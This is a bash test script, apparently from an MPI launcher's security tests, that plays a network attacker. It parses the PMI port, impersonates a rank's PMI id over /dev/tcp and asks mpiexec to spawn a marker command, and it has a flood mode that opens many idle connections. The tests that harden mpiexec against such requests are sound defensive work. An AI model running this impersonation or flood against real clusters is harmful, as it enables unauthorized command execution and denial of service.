#!/bin/bash
# Stand-in for a stranger on the network, used as a launch agent so it learns the PMI port
# the way an attacker scanning ports would: "attack_agent.sh HOST COMMAND" does not start
# the rank (and never reads the job key mpiexec writes to its stdin). It reports whether
# the port also answers on 127.0.0.1, then connects, claims the rank's PMI id and asks
# mpiexec to spawn "touch $ATTACK_MARK"; every reply goes to stdout.
# With ATTACK_HOST set, only that host is attacked; the others are launched normally
# (fake_agent.sh). With ATTACK_FLOOD=N it instead opens N idle connections and holds them
# for 3 s (a flood that must not lock real ranks out).
set -u
trap '' PIPE
[ "$1" = "${ATTACK_HOST:-$1}" ] || exec /bin/sh "$(dirname "$0")/fake_agent.sh" "$@"
cmd=$2
port=$(printf '%s\n' "$cmd" | sed -n "s/.*'PMI_PORT=\([^']*\)'.*/\1/p")
id=$(printf '%s\n' "$cmd" | sed -n "s/.*'PMI_ID=\([0-9]*\)'.*/\1/p")
addr=${port%:*} num=${port##*:}
if [ "$addr" != 127.0.0.1 ]; then
  if (exec 4<>"/dev/tcp/127.0.0.1/$num") 2>/dev/null; then echo "probe 127.0.0.1: open"; else echo "probe 127.0.0.1: closed"; fi
fi
if [ "${ATTACK_FLOOD:-}" ]; then
  for _ in $(seq "$ATTACK_FLOOD"); do exec {fd}<>"/dev/tcp/$addr/$num" || break; done
  sleep 3
  exit 0
fi
exec 3<>"/dev/tcp/$addr/$num" || { echo "attack: cannot connect to $port"; exit 0; }
{
  printf 'cmd=initack pmiid=%s\n' "$id"
  [ "${ATTACK_MAC:-}" ] && printf 'cmd=auth mac=%s\n' "$ATTACK_MAC"
  printf 'cmd=init pmi_version=1 pmi_subversion=1\n'
  printf 'mcmd=spawn\nnprocs=1\nexecname=touch\ntotspawns=1\nspawnssofar=1\nargcnt=1\narg1=%s\npreput_num=0\ninfo_num=0\nendcmd\n' "$ATTACK_MARK"
} 2>/dev/null >&3
while IFS= read -r -t 5 line <&3; do echo "attack got: $line"; done
exit 0
